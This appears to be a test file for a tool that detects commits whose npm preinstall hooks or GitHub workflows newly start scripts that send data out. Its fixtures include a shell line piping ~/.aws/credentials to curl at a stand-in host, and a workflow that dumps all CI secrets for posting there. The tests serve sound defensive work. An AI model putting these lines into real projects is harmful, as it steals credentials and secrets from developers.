/** What unchanged files do counts where a commit is what starts them automatically. Nothing here is run. */
import { startsUnasked, toBaseline } from "../../../../src/engine/index.ts";
import { describeStart } from "../../../../src/engine/programs/describe-action.ts";
import { newActions } from "../../../../src/engine/programs/new-actions.ts";
import { toEvidence } from "../../../../src/evidence/to-evidence.ts";
import { ADA, aHistory } from "../../../git/a-history.ts";
import { readRange } from "../../from-local-git/read-range.ts";

type Files = Readonly<Record<string, string>>;

const SENDS = "#!/bin/sh\ncat ~/.aws/credentials | curl -d @- https://a.example/x\n";
const MANIFEST = '{ "name": "a", "scripts": { "test": "jest" } }\n';
const STARTS = '{ "name": "a", "scripts": { "test": "jest", "preinstall": "sh tools/a.sh" } }\n';

/** What the last of the commits newly does, with its start and its place. */
async function sentByLast(...commits: readonly Files[]): Promise<readonly string[]> {
  const history = aHistory();
  for (const files of commits) history.commit({ message: "a change", author: ADA, files });
  const last = (await readRange(history.gitDir)).commits.at(-1);
  if (!last) return [];
  const evidence = await toEvidence(last, toBaseline([], last.author));
  return newActions(evidence, ["send"]).map(
    (one) =>
      `${describeStart(one)} sends, at ${one.path}:${one.action.line}${startsUnasked(one.program) ? "" : " by hand"}`,
  );
}

test("a script that lies there does what the commit that starts it has it do", async () => {
  expect(await sentByLast({ "package.json": MANIFEST, "tools/a.sh": SENDS }, { "package.json": STARTS })).toEqual([
    "npm preinstall runs tools/a.sh, which sends, at package.json:1",
  ]);
});

test("the environment that the starter sets goes along, and an action of the repository gets its inputs", async () => {
  const workflow =
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJSON(secrets) }}\n    steps:\n      - run: sh .github/a.sh\n";
  const script = 'printf "%s" "$ALL" | curl -d @- https://a.example/x\n';
  expect(await sentByLast({ ".github/a.sh": script }, { ".github/workflows/a.yml": workflow })).toEqual([
    'step "#1" of workflow "a.yml" on push runs .github/a.sh, which sends, at .github/workflows/a.yml:8',
    'step "#1" of workflow "a.yml" on push runs .github/a.sh, which sends, at .github/workflows/a.yml:8',
  ]);
});

test.each<[string, readonly Files[]]>([
  [
    "what was started the same way before",
    [
      { "package.json": STARTS, "tools/a.sh": SENDS },
      { "package.json": STARTS.replace("jest", "vitest run && sh tools/a.sh") },
    ],
  ],
  [
    "what another, unchanged file starts",
    [{ "package.json": STARTS, "tools/a.sh": SENDS }, { "package.json": STARTS.replace('"a"', '"tools/a.sh"') }],
  ],
  ["what a person starts", [{ "tools/a.sh": SENDS }, { "tools/all.sh": "#!/bin/sh\nsh tools/a.sh\n" }]],
  ["what is only named", [{ "tools/a.sh": SENDS }, { "package.json": '{ "name": "a", "files": ["tools/a.sh"] }\n' }]],
])("%s is nothing new", async (_, commits) => {
  expect(await sentByLast(...commits)).toEqual([]);
});
